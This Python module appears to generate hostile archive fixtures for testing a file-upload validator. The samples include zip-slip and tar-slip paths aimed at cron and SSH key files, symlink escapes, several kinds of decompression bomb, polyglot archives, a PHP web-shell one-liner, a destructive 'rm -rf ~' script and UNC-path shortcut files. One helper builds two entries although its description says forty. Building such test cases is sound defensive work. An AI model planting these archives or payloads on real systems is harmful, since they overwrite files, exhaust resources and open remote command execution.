"""Archives that lead out, swell, lie or hide."""

import gzip
import io
import struct
import tarfile
import zlib

from hostile.archives_lib import Entry, archive, central, end, local, of

OUT = "ASVS V5.3.3, CWE-22"
LIES = "ASVS V5.2.2, CWE-436"
BOMB = "ASVS V5.2.3, CWE-409"
LINK = "ASVS V5.2.5, CWE-61"
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(48) + b"PE\0\0"
PLAIN = Entry("a.txt", "lake\n")
BAD = "damaged|active_content|archive_path|archive_program"


def zips(group):
    def put(name, content, words, rule, what):
        group.hostile(f"zip/{name}.zip", content, words, rule, what)

    for name, path in [("parent", "../a.txt"), ("parent-deep", "a/../../../../etc/cron.d/a"), ("parent-end", "a/.."), ("absolute", "/etc/passwd"), ("backslash", "..\\..\\a.txt"), ("backslash-inside", "a\\b.txt"), ("drive", "C:/Windows/a.txt"), ("drive-relative", "C:a.txt"), ("unc", "//host/share/a.txt"), ("unc-backslash", "\\\\host\\share\\a.txt"), ("stream", "a.txt::$DATA"), ("stream-named", "a.txt:b.exe"), ("dot", "./././a.txt"), ("double-slash", "a//b.txt"), ("device", "con.txt"), ("device-folder", "a/aux/b.txt"), ("trailing-dot", "a.txt."), ("trailing-space", "a.txt "), ("dots-in-the-middle", "a/.../..  /b.txt"), ("control", "a\nb.txt"), ("escape", "a\x1b[2Jb.txt"), ("home", "~/.ssh/authorized_keys")]:
        put(f"path-{name}", archive([PLAIN, Entry(path, "x")]), BAD + "|name", OUT, f"a path that leads out, or that is another on some system: {path!r}")
    put("path-nul", archive([PLAIN, Entry(b"a.txt\0.exe", "x")]), BAD + "|name", OUT, "a name with NUL")
    put("path-overlong-utf8", archive([PLAIN, Entry(b"\xc0\xae\xc0\xae/a.txt", "x")]), BAD + "|name", OUT, "../ in overlong UTF-8")
    put("path-unicode-extra", archive([Entry("a.txt", "x", extra=struct.pack("<HHBI", 0x7075, 5 + 14, 1, zlib.crc32(b"a.txt")) + b"../../evil.txt")]), BAD + "|name", OUT, "the extra field for a Unicode path says ../../evil.txt")
    put("path-bidi", archive([PLAIN, Entry("a\u202efdp.exe", PROGRAM)]), BAD + "|name", OUT, "a name that shows its extension backwards")
    for name, target in [("absolute", "/etc/passwd"), ("parent", "../../etc"), ("inside", "a.txt")]:
        put(f"symlink-{name}", archive([PLAIN, Entry("link", target, made_by=0x314, attributes=0o120777 << 16)]), BAD, LINK, f"a symbolic link to {target}")
    put("symlink-then-file", archive([Entry("d", "/tmp", made_by=0x314, attributes=0o120777 << 16), Entry("d/a.txt", "x")]), BAD, LINK, "a link to a folder, then a file through it")
    for name, mode in [("device", 0o020666), ("block-device", 0o060666), ("fifo", 0o010666), ("socket", 0o140666)]:
        put(f"special-{name}", archive([PLAIN, Entry("x", "", made_by=0x314, attributes=mode << 16)]), BAD, LINK, f"a special file: {name}")
    put("setuid", archive([PLAIN, Entry("x", "#!/bin/sh\n", made_by=0x314, attributes=0o104755 << 16)]), BAD + "|page", LINK, "a script with the bit setuid")
    put("duplicate", archive([PLAIN, Entry("a.txt", "other\n")]), "damaged|archive_path", LIES, "two entries of one name")
    put("duplicate-case", archive([PLAIN, Entry("A.TXT", "other\n")]), "damaged|archive_path", LIES, "two names that are one on Windows")
    put("duplicate-nfd", archive([Entry("ü.txt", "a"), Entry("u\u0308.txt", "b")]), "damaged|archive_path", LIES, "two names that are one on macOS")
    put("file-and-folder", archive([Entry("a", "x"), Entry("a/b.txt", "y")]), "damaged|archive_path", LIES, "a file that is a folder too")
    put("local-name", archive([Entry("a.txt", PROGRAM, **{"local.name": b"a.exe"})]), BAD, LIES, "the two headers name different files")
    put("local-size", archive([Entry("a.txt", "lake\n" * 99, **{"local.size": 5})]), "damaged", LIES, "the two headers give different sizes")
    put("local-method", archive([Entry("a.txt", "lake\n", method=0, **{"local.method": 8})]), "damaged", LIES, "the two headers give different methods")
    put("local-flags", archive([Entry("a.txt", "lake\n", **{"local.flags": 0x801})]), "damaged|encrypted", LIES, "one header says encrypted")
    put("hidden", archive([PLAIN, Entry("b.exe", PROGRAM, only_local=True)]), BAD, LIES, "an entry that only a reader from the front finds")
    put("gap", archive([PLAIN], gap=PROGRAM), "damaged|trailing_data|active_content|archive_program|archive_path", LIES, "a program between the entries and the directory")
    put("after-entry", archive([Entry("a.txt", "x", after=b"<script>alert(1)</script>"), PLAIN and Entry("b.txt", "y")]), "damaged|trailing_data", LIES, "a script between two entries")
    put("prepended-program", archive([PLAIN], before=PROGRAM), "damaged|trailing_data|unknown_kind|extension_disagrees|active_content|archive_program|archive_path", LIES, "a self-extracting program")
    put("prepended-php", archive([PLAIN], before=b"<?php system($_GET[0]); ?>"), "damaged|trailing_data|unknown_kind|archive_program|archive_path", LIES, "a script before the first entry (phar)")
    put("comment-zip", archive([PLAIN], comment=archive([Entry("b.exe", PROGRAM)])), "trailing_data|damaged", LIES, "another archive in the comment")
    put("two-archives", archive([PLAIN]) + archive([Entry("b.exe", PROGRAM)]), "damaged|trailing_data|active_content|archive_program|archive_path", LIES, "one archive after another: readers differ in which they open")
    put("appended", archive([PLAIN]) + PROGRAM, "damaged|trailing_data|unknown_kind|archive_program|archive_path", LIES, "a program after the end")
    put("truncated", archive([PLAIN])[:-9], "damaged|trailing_data|unknown_kind|archive_program|archive_path", "ASVS V5.2.2, CWE-20", "without the last nine bytes")
    put("no-directory", local(PLAIN) + PLAIN.packed(), "damaged|trailing_data|unknown_kind|archive_program|archive_path", "ASVS V5.2.2, CWE-20", "without a directory")
    put("encrypted", archive([Entry("a.txt", bytes(12) + b"secret", method=0, flags=0x801)]), "encrypted", "ASVS V5.2.2, CWE-434", "an encrypted entry, which nobody can examine")
    put("strong-encryption", archive([Entry("a.txt", b"secret", method=0, flags=0x841)]), "encrypted|damaged", "ASVS V5.2.2, CWE-434", "strong encryption")
    put("aes", archive([Entry("a.txt", bytes(30), method=99, flags=0x801, extra=struct.pack("<HHHHBH", 0x9901, 7, 2, 0x4541, 3, 8))]), "encrypted|damaged", "ASVS V5.2.2, CWE-434", "AES of WinZip")
    put("encrypted-directory", archive([Entry("a.txt", "x", flags=0x2801)]), "encrypted|damaged", "ASVS V5.2.2, CWE-434", "masked headers")
    put("method-unknown", archive([Entry("a.txt", "x", method=97)]), "damaged", "ASVS V5.2.2, CWE-20", "an unknown compression")
    put("crc", archive([Entry("a.txt", "x" * 50, crc=0)]), "damaged", "ASVS V5.2.2, CWE-354", "a wrong checksum")
    put("descriptor-lies", archive([Entry("a.txt", "lake\n" * 50, **{"local.flags": 0x808, "central.flags": 0x808, "local.crc": 0, "local.size": 0, "local.packed_size": 0}, after=b"PK\7\x08" + struct.pack("<III", 1, 2, 3))]), "damaged", LIES, "a data descriptor that lies")
    deflated = Entry("a.txt", "x" * 100)
    put("deflate-garbage", archive([Entry("a.txt", b"x" * 100, packed=b"\x07\xff\xff\xff")]), "damaged", "ASVS V5.2.2, CWE-20", "compressed data that are none")
    put("deflate-trailing", archive([Entry("a.txt", b"x" * 100, packed=deflated.packed() + PROGRAM)]), "damaged|trailing_data|active_content|archive_program|archive_path", LIES, "bytes after the end of the compressed data")
    put("offset-beyond", archive([Entry("a.txt", "x", **{"central.offset": 0xFFFFFF00})]), "damaged", LIES, "an entry beyond the end")
    put("offset-itself", archive([Entry("a.txt", "x", **{"central.offset": 40})]), "damaged", LIES, "an entry in the directory")
    put("count-less", archive([PLAIN, Entry("b.exe", PROGRAM)], count=1), BAD, LIES, "the end record counts one entry of two")
    put("count-more", archive([PLAIN], count=9), "damaged|unknown_kind", LIES, "the end record counts nine entries of one")
    put("directory-size", archive([PLAIN], size=1), "damaged", LIES, "the end record gives another size of the directory")
    put("multi-disk", archive([PLAIN])[:-22] + end(1, 51, 0, disk=3), "damaged|trailing_data", LIES, "the last disk of several")
    put("zip64-lies", zip64(), "damaged", LIES, "a zip64 record that gives another directory")
    put("zip64-size", archive([Entry("a.txt", "x", **{"central.size": 0xFFFFFFFF, "central.extra": struct.pack("<HHQ", 1, 8, 1 << 62)})]), "damaged|bomb", BOMB, "zip64: 2^62 bytes unpacked")
    put("zip64-missing", archive([Entry("a.txt", "x", **{"central.size": 0xFFFFFFFF})]), "damaged", LIES, "zip64 announced and not there")
    zeros = bytes(32 * 1024 * 1024)
    put("bomb", archive([Entry("a.bin", zeros)]), "bomb", BOMB, "32 MiB of zeros in 32 kB")
    put("bomb-size-lies", archive([Entry("a.bin", zeros, size=10)]), "bomb|damaged", BOMB, "the same; the headers say 10 bytes")
    put("bomb-entries", many_bombs(), "bomb", BOMB, "forty entries of 16 MiB each that share nothing")
    put("overlap", overlap(), "bomb|damaged", BOMB, "fifty entries over the same bytes (Fifield)")
    put("overlap-quoted", quoted(), "bomb|damaged", BOMB, "headers quoted inside the data of the entries before (Fifield)")
    put("nested", nested(6), "bomb", BOMB, "archives six deep, with a bomb at the bottom")
    put("nested-wide", of({f"{number}.zip": nested(2) for number in range(10)}), "bomb", BOMB, "ten archives with ten archives each (42.zip)")
    put("quine", quine(), "bomb|damaged", BOMB, "an archive that contains itself (Cox)")
    for name, entry, content in [("exe", "setup.exe", PROGRAM), ("exe-as-txt", "readme.txt", PROGRAM), ("js", "a.js", b"WScript.Shell"), ("lnk", "a.lnk", b"L\0\0\0\x01\x14\x02\0"), ("html", "a.html", b"<script>alert(1)</script>"), ("htaccess", ".htaccess", b"AddType application/x-httpd-php .txt"), ("php", "a.php", b"<?php"), ("php-double", "a.php.txt", b"<?php"), ("docm", "a.docm", b"PK\3\4"), ("iso", "a.iso", b"x"), ("desktop", "a.desktop", b"[Desktop Entry]\nExec=calc"), ("desktop-ini", "desktop.ini", b"[.ShellClassInfo]\nIconResource=\\\\host\\a"), ("scf", "a.scf", b"[Shell]\nIconFile=\\\\host\\a"), ("url", "a.url", b"[InternetShortcut]\nURL=file://host/a"), ("library", "a.library-ms", b"<libraryDescription/>"), ("theme", "a.theme", b"[Theme]\nWallpaper=\\\\host\\a"), ("class", "A.class", b"\xca\xfe\xba\xbe\0\0\0\x34"), ("elf", "run", b"\x7fELF\2\1\1" + bytes(9)), ("shell", "install.sh", b"#!/bin/sh\nrm -rf ~"), ("rtlo", "annexe\u202etxt.scr", PROGRAM), ("double", "invoice.pdf.exe", PROGRAM), ("spaces", "invoice.pdf" + " " * 60 + ".exe", PROGRAM)]:
        put(f"inside-{name}", archive([PLAIN, Entry(entry, content)]), "active_content|active_extension|archive_program|archive_path|damaged|name|page", "ASVS V5.2.2, CWE-434", f"an entry that some system runs: {entry!r}")
    put("jar", of({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\r\nMain-Class: A\r\n", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}), "active_content|unknown_kind|extension_disagrees|archive_program|archive_path", "ASVS V5.2.2, CWE-434", "a Java program under another name")
    put("apk", of({"AndroidManifest.xml": b"\3\0\x08\0", "classes.dex": b"dex\n035\0" + bytes(32)}), "active_content|unknown_kind|extension_disagrees|archive_program|archive_path", "ASVS V5.2.2, CWE-434", "an Android program under another name")


def zip64() -> bytes:
    first, second = Entry("a.txt", "x"), Entry("b.exe", PROGRAM)
    body = local(first) + first.packed()
    other = len(body)
    body += local(second) + second.packed()
    one = len(body)
    body += central(first, 0)
    two = len(body)
    body += central(second, other)
    record = len(body)
    body += struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, record - two, two)
    body += struct.pack("<4sIQI", b"PK\6\7", 0, record, 1)
    return body + end(1, two - one, one)


def many_bombs() -> bytes:
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(16 * 1024 * 1024)
    data = packed.compress(zeros) + packed.flush()
    crc = zlib.crc32(zeros)
    return archive([Entry(f"{number}.bin", b"", packed=data, crc=crc, size=len(zeros)) for number in range(2)])


def overlap() -> bytes:
    kernel = Entry("0", bytes(65536))
    out = local(kernel) + kernel.packed()
    start = len(out)
    for number in range(50):
        out += central(Entry("0" if number == 0 else f"{number}", bytes(65536)), 0)
    return out + end(50, len(out) - start, start)


def quoted() -> bytes:
    """Each entry is a stored block that quotes the header of the next one."""
    kernel = Entry("9", bytes(1024 * 1024))
    tail = local(kernel) + kernel.packed()
    entries = [(kernel, 0)]
    for number in reversed(range(9)):
        quote = local(entries[0][0])
        packed = b"\0" + struct.pack("<HH", len(quote), 0xFFFF ^ len(quote)) + quote + entries[0][0].packed()
        entry = Entry(f"{number}", zlib.decompress(packed, -15), packed=packed)
        entries.insert(0, (entry, 0))
        tail = local(entry) + packed[: 5] + tail
    out, places, at = tail, [], 0
    for entry, _ in entries:
        places.append(at)
        at += len(local(entry)) + 5
    start = len(out)
    for (entry, _), place in zip(entries, places):
        out += central(entry, place)
    return out + end(len(entries), len(out) - start, start)


def nested(depth: int) -> bytes:
    content = of({"a.bin": bytes(20 * 1024 * 1024)})
    for number in range(depth):
        content = of({f"{number}.zip": content})
    return content


def quine() -> bytes:
    """A stored entry that says it is the whole archive: its data overlap the directory."""
    name = b"a.zip"
    head = 30 + len(name)
    size = head + 46 + len(name) + 22
    whole = struct.pack("<4s5HIIIHH", b"PK\3\4", 20, 0, 0, 0, 0x5A21, 0, size, size, len(name), 0) + name
    start = len(whole)
    whole += struct.pack("<4s6HIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 0x5A21, 0, size, size, len(name), 0, 0, 0, 0, 0, 0) + name
    return whole + end(1, len(whole) - start, start)


def header(name: bytes, size: bytes | int = 0, kind: bytes = b"0", link: bytes = b"", mode: bytes = b"0000644", magic: bytes = b"ustar\x0000") -> bytes:
    length = size if isinstance(size, bytes) else b"%011o\0" % size
    block = name.ljust(100, b"\0")[:100] + mode + b"\0" + b"0000000\0" * 2 + length.ljust(12, b"\0") + b"00000000000\0" + b" " * 8 + kind + link.ljust(100, b"\0")[:100] + magic
    block = block.ljust(512, b"\0")
    return block[:148] + b"%06o\0 " % sum(block) + block[156:]


END = bytes(1024)


def entry(name: bytes, content: bytes = b"", **options) -> bytes:
    return header(name, options.pop("size", len(content)), **options) + content + bytes(-len(content) % 512)


def tars(group):
    def put(name, content, words, rule, what):
        group.hostile(f"tar/{name}.tar", content, words, rule, what)

    plain = entry(b"a.txt", b"lake\n")
    for name, path in [("parent", b"../a.txt"), ("parent-deep", b"a/../../../etc/a"), ("absolute", b"/etc/passwd"), ("backslash", b"..\\a.txt"), ("drive", b"C:\\a.txt"), ("control", b"a\nb"), ("stream", b"a.txt::$DATA"), ("device", b"con.txt"), ("trailing-dot", b"a.txt.")]:
        put(f"path-{name}", plain + entry(path, b"x") + END, BAD + "|name", OUT, f"a path that leads out: {path!r}")
    for name, kind, target in [("symlink", b"2", b"/etc/passwd"), ("symlink-parent", b"2", b"../../etc"), ("hardlink", b"1", b"/etc/passwd"), ("hardlink-inside", b"1", b"a.txt"), ("character-device", b"3", b""), ("block-device", b"4", b""), ("fifo", b"6", b""), ("contiguous", b"7", b""), ("sparse", b"S", b""), ("multi-volume", b"M", b""), ("volume-label", b"V", b""), ("unknown", b"Z", b"")]:
        put(f"kind-{name}", plain + entry(b"x", kind=kind, link=target) + END, BAD, LINK, f"an entry of the kind {name}")
    put("symlink-then-file", entry(b"d", kind=b"2", link=b"/tmp") + entry(b"d/a.txt", b"x") + END, BAD, LINK, "a link to a folder, then a file through it")
    put("duplicate", plain + entry(b"a.txt", b"other") + END, "damaged|archive_path", LIES, "two entries of one name")
    put("size-huge", plain + entry(b"b.txt", b"x", size=b"77777777777\0") + END, "damaged|bomb", BOMB, "8 GiB that are not there")
    put("size-negative", plain + entry(b"b.txt", b"x", size=b"\xff" * 12) + END, "damaged", "ASVS V5.2.2, CWE-195", "a negative size")
    put("size-base256", plain + entry(b"b.txt", b"x", size=b"\x80" + b"\xff" * 11) + END, "damaged|bomb", "ASVS V5.2.2, CWE-190", "a size of 2^88")
    put("size-not-octal", plain + entry(b"b.txt", b"x", size=b"99999999999\0") + END, "damaged", "ASVS V5.2.2, CWE-20", "a size that is not octal")
    put("size-minus", plain + entry(b"b.txt", b"x", size=b"-0000000001\0") + END, "damaged", "ASVS V5.2.2, CWE-195", "a size with a minus")
    put("checksum", plain[:148] + b"000000\0 " + plain[156:] + END, "damaged|unknown_kind", "ASVS V5.2.2, CWE-354", "a wrong checksum")
    put("after-end", plain + END + entry(b"b.exe", PROGRAM) + END, "trailing_data|damaged|active_content|archive_program|archive_path", LIES, "an entry after the end, which some programs read")
    put("zip-after-end", plain + END + archive([Entry("b.exe", PROGRAM)]), "trailing_data|damaged|active_content|archive_program|archive_path", LIES, "an archive of another kind after the end")
    put("truncated", (plain + entry(b"b.txt", b"x" * 2000))[:1500], "damaged", "ASVS V5.2.2, CWE-20", "cut in an entry")
    for name, records in [("path", b"22 path=../../evil.txt\n"), ("linkpath", b"24 linkpath=/etc/passwd\n"), ("size", b"20 size=99999999999\n"), ("size-differs", b"9 size=0\n")]:
        put(f"pax-{name}", entry(b"PaxHeader", records, kind=b"x") + entry(b"b.txt", PROGRAM if name == "size-differs" else b"x") + END, BAD + "|bomb|name", LIES, f"an extended header that changes the {name}")
    put("pax-garbage", entry(b"PaxHeader", b"9999999 path=a\n", kind=b"x") + entry(b"b.txt", b"x") + END, "damaged", "ASVS V5.2.2, CWE-20", "an extended header whose length lies")
    put("pax-global-path", entry(b"g", b"22 path=../../evil.txt\n", kind=b"g") + entry(b"b.txt", b"x") + END, BAD + "|name", LIES, "a global header with a path")
    put("gnu-long-name", entry(b"././@LongLink", b"../../../evil.txt\0", kind=b"L") + entry(b"b.txt", b"x") + END, BAD + "|name", OUT, "a long name that leads out")
    put("gnu-long-names", entry(b"././@LongLink", b"a\0", kind=b"L") * 40 + entry(b"b.txt", b"x") + END, "damaged|bomb", "ASVS V5.2.3, CWE-674", "forty long names in a row")
    for name, path, content in [("exe", b"setup.exe", PROGRAM), ("exe-as-txt", b"readme.txt", PROGRAM), ("html", b"a.html", b"<script>"), ("elf", b"run", b"\x7fELF\2\1\1" + bytes(9)), ("htaccess", b".htaccess", b"x")]:
        put(f"inside-{name}", plain + entry(path, content) + END, "active_content|active_extension|archive_program|archive_path|damaged|name|page", "ASVS V5.2.2, CWE-434", f"an entry that some system runs: {path!r}")
    put("setuid", plain + entry(b"run", b"#!/bin/sh\n", mode=b"0004755") + END, BAD + "|page", LINK, "a script with the bit setuid")


def gzips(group):
    def put(name, content, words, rule, what, extension="txt.gz"):
        group.hostile(f"gzip/{name}.{extension}", content, words, rule, what)

    zeros = gzip.compress(bytes(64 * 1024 * 1024), 9, mtime=0)
    put("bomb", zeros, "bomb", BOMB, "64 MiB of zeros in 64 kB")
    put("bomb-members", gzip.compress(bytes(20 * 1024 * 1024), 9, mtime=0) * 3, "bomb", BOMB, "three members of 20 MiB each")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as packed:
        info = tarfile.TarInfo("a.bin")
        info.size = 32 * 1024 * 1024
        packed.addfile(info, io.BytesIO(bytes(info.size)))
    put("bomb", out.getvalue(), "bomb", BOMB, "a tar of 32 MiB of zeros", "tar.gz")
    put("twice", gzip.compress(gzip.compress(bytes(64 * 1024 * 1024), 9, mtime=0), mtime=0), "bomb|active_content|damaged|unknown_kind", BOMB, "compressed twice")
    put("trailing", gzip.compress(b"lake\n", mtime=0) + b"<script>alert(1)</script>", "trailing_data|damaged", LIES, "a script after the end")
    put("trailing-zip", gzip.compress(b"lake\n", mtime=0) + archive([Entry("b.exe", PROGRAM)]), "trailing_data|damaged|active_content|archive_program|archive_path", LIES, "an archive of another kind after the end")
    put("crc", gzip.compress(b"lake\n", mtime=0)[:-8] + bytes(8), "damaged", "ASVS V5.2.2, CWE-354", "a wrong checksum")
    put("truncated", gzip.compress(b"lake\n" * 99, mtime=0)[:-12], "damaged", "ASVS V5.2.2, CWE-20", "cut")
    put("program", gzip.compress(PROGRAM * 9, mtime=0), "active_content|unknown_kind|damaged|archive_program|archive_path", "ASVS V5.2.2, CWE-434", "a program under the name of a text")
    put("page", gzip.compress(b"<!doctype html><script>alert(1)</script>", mtime=0), "active_content|page|unknown_kind|damaged|archive_program|archive_path", "ASVS V5.2.2, CWE-434", "a page under the name of a text")
    named = b"\x1f\x8b\x08\x08\0\0\0\0\0\x03" + b"../../evil.sh\0" + gzip.compress(b"lake\n", mtime=0)[10:]
    put("name-parent", named, "damaged|name|active_content|active_extension|archive_program|archive_path", OUT, "a name inside that leads out")
    put("flags", b"\x1f\x8b\x08\xe0\0\0\0\0\0\x03" + gzip.compress(b"lake\n", mtime=0)[10:], "damaged|unknown_kind", "ASVS V5.2.2, CWE-20", "reserved flags")
    put("extra-hides", b"\x1f\x8b\x08\x04\0\0\0\0\0\x03" + struct.pack("<H", 60000) + b"<script>alert(1)</script>".ljust(60000, b" ") + gzip.compress(b"lake\n", mtime=0)[10:], "damaged|trailing_data|active_content|archive_program|archive_path", LIES, "a page of 60 kB in the extra field")
    put("tar-slip", gzip.compress(entry(b"../../evil.txt", b"x") + END, mtime=0), BAD + "|name", OUT, "a tar with a path that leads out", "tgz")
    put("tar-symlink", gzip.compress(entry(b"x", kind=b"2", link=b"/etc/passwd") + END, mtime=0), BAD, LINK, "a tar with a symbolic link", "tgz")
    put("tar-program", gzip.compress(entry(b"setup.exe", PROGRAM) + END, mtime=0), "active_content|active_extension|damaged|archive_program|archive_path", "ASVS V5.2.2, CWE-434", "a tar with a program", "tar.gz")


ALL = [zips, tars, gzips]
